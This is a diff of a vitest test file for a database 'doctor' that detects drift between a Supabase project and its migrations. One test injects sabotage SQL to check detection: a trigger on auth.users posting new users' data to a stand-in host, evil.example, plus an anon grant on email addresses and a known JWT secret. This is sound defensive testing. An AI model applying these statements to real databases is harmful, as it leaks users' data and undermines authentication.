@@ -1,97 +1,98 @@
-import { execFile } from "node:child_process";
-import { promisify } from "node:util";
+import { readFileSync } from "node:fs";
 import { afterAll, beforeAll, expect, test } from "vitest";
+import type { Entry } from "../../scripts/doctor/catalogue.ts";
 import { checkDatabase } from "../../scripts/doctor/check-database.ts";
+import { readExpected } from "../../scripts/doctor/expected.ts";
 import type { Finding } from "../../scripts/doctor/finding.ts";
-import { type MigratedDatabase, readMigrated } from "../../scripts/doctor/migrated-catalogue.ts";
 import { type OpenDatabase, openMigratedDatabase } from "../../scripts/migrated-database.ts";
-import { platformFiles } from "../../supabase/local/database/migrations.ts";
-import { type NativePostgres, findNativePostgres, startNativePostgres } from "../support/backend/native-postgres.ts";
-import { sabotages } from "../support/doctor/sabotage.ts";
+import { harmless, noticed, sabotages } from "../support/doctor/sabotage.ts";
 
-const bin = findNativePostgres();
-let embedded: OpenDatabase;
-let native: NativePostgres | null = null;
-let migrated: MigratedDatabase;
+const hostedProject = "tests/support/doctor/hosted-project.sql";
+const secondFactor =
+  "insert into auth.mfa_factors (id, user_id, factor_type, status, created_at, updated_at) select gen_random_uuid(), user_id, 'totp', 'verified', now(), now() from public.admins";
 
-beforeAll(async () => {
-  embedded = await openMigratedDatabase();
-  migrated = await readMigrated(null);
-  if (!bin) return;
-  native = await startNativePostgres(bin);
-  for (const file of platformFiles) native.runFile(file);
-  await promisify(execFile)("node_modules/.bin/supabase", ["db", "push", `--remote=${native.url}`, "--yes"]);
-  native.runFile("supabase/seed.sql");
-}, 180_000);
-afterAll(async () => {
-  await embedded?.close();
-  native?.stop();
-});
+let hosted: OpenDatabase;
+let expected: Entry[];
+let plain: Finding[];
 
-const migrate = async () => migrated;
+const open = (findings: Finding[]) => findings.flatMap((finding) => (finding.state === "well" ? [] : [finding]));
+const check = async (): Promise<Finding[]> =>
+  checkDatabase(async (sql) => (await hosted.database.query<Record<string, unknown>>(sql)).rows, {
+    expect: async () => expected,
+  });
 
-/** The doctor's findings about a database after this change, in a transaction that is rolled back. */
-async function findIn(where: "embedded" | "native", sql: string): Promise<string[]> {
-  let findings: Finding[];
-  if (where === "embedded") {
-    await embedded.database.exec("begin");
-    try {
-      await embedded.database.exec(sql);
-      findings = await checkDatabase(async (query) => (await embedded.database.query<Record<string, unknown>>(query)).rows, { migrate });
-    } finally {
-      await embedded.database.exec("rollback");
-    }
-  } else {
-    const read = async (query: string) =>
-      JSON.parse(native?.query(`begin; ${sql}; select coalesce(json_agg(t), '[]') from (${query}) t; rollback`) ?? "");
-    findings = await checkDatabase(read, { migrate });
+/** What the doctor finds in a fresh hosted project after this change, which is undone. */
+async function findAfter(sql: string) {
+  await hosted.database.exec("begin");
+  try {
+    await hosted.database.exec(sql);
+    return open(await check());
+  } finally {
+    await hosted.database.exec("rollback");
   }
-  return findings.filter(({ state }) => state !== "well").map(({ text }) => text);
 }
 
-const withoutFactor = "admins without a second factor: 1 of 1";
-const withoutJob = "no job deletes old enquiries, as the privacy policy promises";
-const atBirth = [withoutFactor, withoutJob];
+beforeAll(async () => {
+  hosted = await openMigratedDatabase();
+  expected = await readExpected();
+  plain = await check();
+  await hosted.database.exec(readFileSync(hostedProject, "utf8"));
+  await hosted.database.exec(secondFactor);
+});
+afterAll(() => hosted?.close());
 
-test("a database as the migrations make it shows no difference", async () => {
-  expect(await findIn("embedded", "")).toEqual(atBirth);
+test("the embedded database shows no difference", () => {
+  expect(open(plain).map(({ text }) => text)).toEqual([
+    "admins without a second factor: 1",
+    "no job deletes old enquiries, as the privacy policy promises",
+    expect.stringMatching(/^nobody is told of an enquiry/),
+  ]);
 });
 
-test.skipIf(bin === null)("neither does one on a native Postgres (skipped where none is installed)", async () => {
-  expect(await findIn("native", "set local timezone = 'UTC'")).toEqual(atBirth);
+test("what changes nothing for anybody is no line, and what an owner may want a yellow one", async () => {
+  expect(await findAfter(harmless.join(";\n"))).toEqual([]);
+  const states = (await findAfter(noticed.join(";\n"))).map(({ state }) => state);
+  expect(states).toEqual(["to do", ...noticed.map(() => "to do")]);
 });
 
-test("what the owner adds and keeps to themselves is no difference", async () => {
-  const own = `
-    create table public.diary (text text); alter table public.diary enable row level security; create policy "Mine" on public.diary for select using (true);
-    create index on public.settings (site_name); create role reporter; grant select on public.blog_posts to reporter;
-    insert into storage.buckets (id, name, public) values ('invoices', 'invoices', false);
-    grant all on all tables in schema public to service_role;
-    create schema reports; create table reports.visits (day date);
-    create schema supabase_functions; create function supabase_functions.http_request() returns trigger language plpgsql as 'begin return null; end';
-    create trigger rebuild_on_posts after insert on public.blog_posts for each statement execute function supabase_functions.http_request()`;
-  expect(await findIn("embedded", own)).toEqual(atBirth);
+const redLines = (findings: Finding[]) => findings.filter(({ state }) => state === "ill");
+const statementOf = (finding: Finding) =>
+  finding.state === "well" ? null : (/in the SQL editor: (.*)$/.exec(finding.remedy)?.[1] ?? null);
+
+test.each(Object.entries(sabotages))(
+  "%s: each is one red line, and the statements in the remedies mend it",
+  async (_what, batch) => {
+    const red = redLines(await findAfter(batch.join(";\n")));
+    expect(red.map(({ text }) => text)).toHaveLength(batch.length);
+    const statements = red.flatMap((finding) => statementOf(finding) ?? []);
+    expect(redLines(await findAfter([...batch, ...statements].join(";\n")))).toEqual(
+      red.filter((finding) => statementOf(finding) === null),
+    );
+  },
+);
+
+test("a line says what differs, and of an address only the host", async () => {
+  const change = `alter policy "Visitors can read published posts" on public.blog_posts using (true);
+    grant select (email) on public.enquiries to anon; alter role authenticator set pgrst.jwt_secret = 'known';
+    create trigger hook after insert on auth.users for each row
+      execute function supabase_functions.http_request('https://user:key@evil.example/secret', 'POST', '{}', '{}', '5000')`;
+  const texts = (await findAfter(change)).map(({ text }) => text);
+  expect(texts).toEqual([
+    expect.stringMatching(
+      /^the policy "Visitors can read published posts" on public\.blog_posts is not as in the migrations \(\(true\) instead of .*now\(\)/,
+    ),
+    "the grant select (email) on public.enquiries to anon is in no migration",
+    "the setting pgrst.jwt_secret of role authenticator is in no migration",
+    "the trigger hook on auth.users is in no migration, and calls evil.example",
+  ]);
 });
 
-test.each([
-  { active: true, left: [withoutFactor] },
-  { active: false, left: atBirth },
-])("a scheduled job (on: $active) deletes old enquiries", async ({ active, left }) => {
-  const schedule = `
-    create schema cron; create table cron.job (jobid bigint, schedule text, command text, active boolean);
-    insert into cron.job values (1, '17 3 * * *', 'select private.delete_old_enquiries(24)', ${active})`;
-  expect(await findIn("embedded", schedule)).toEqual(left);
+test("rows that cannot be read are a line with the reason, beside what is known of the rest", async () => {
+  const texts = (await findAfter("alter table private.picture_uses rename stem to trunk")).map(({ text }) => text);
+  expect(texts).toEqual(
+    expect.arrayContaining([
+      "the column stem of private.picture_uses is missing",
+      expect.stringMatching(/^the rows that others depend on could not be looked at: column u\.stem does not exist/),
+    ]),
+  );
 });
-
-test.each(sabotages)("on the embedded Postgres: $what", async ({ sql, told }) => {
-  expect((await findIn("embedded", sql)).join("\n")).toMatch(told);
-});
-
-test.skipIf(bin === null).each(sabotages)("on a native Postgres (skipped where none is installed): $what", async ({ sql, told }) => {
-  expect((await findIn("native", sql)).join("\n")).toMatch(told);
-});
-
-test("a project that has seen only some migrations is compared with those", async () => {
-  const { catalogue } = await readMigrated(["20261101000100", "20261101000200"]);
-  expect(catalogue.filter(({ kind }) => kind === "table").map(({ name }) => name)).toEqual(["public.admins", "public.blog_categories"]);
-}, 60_000);
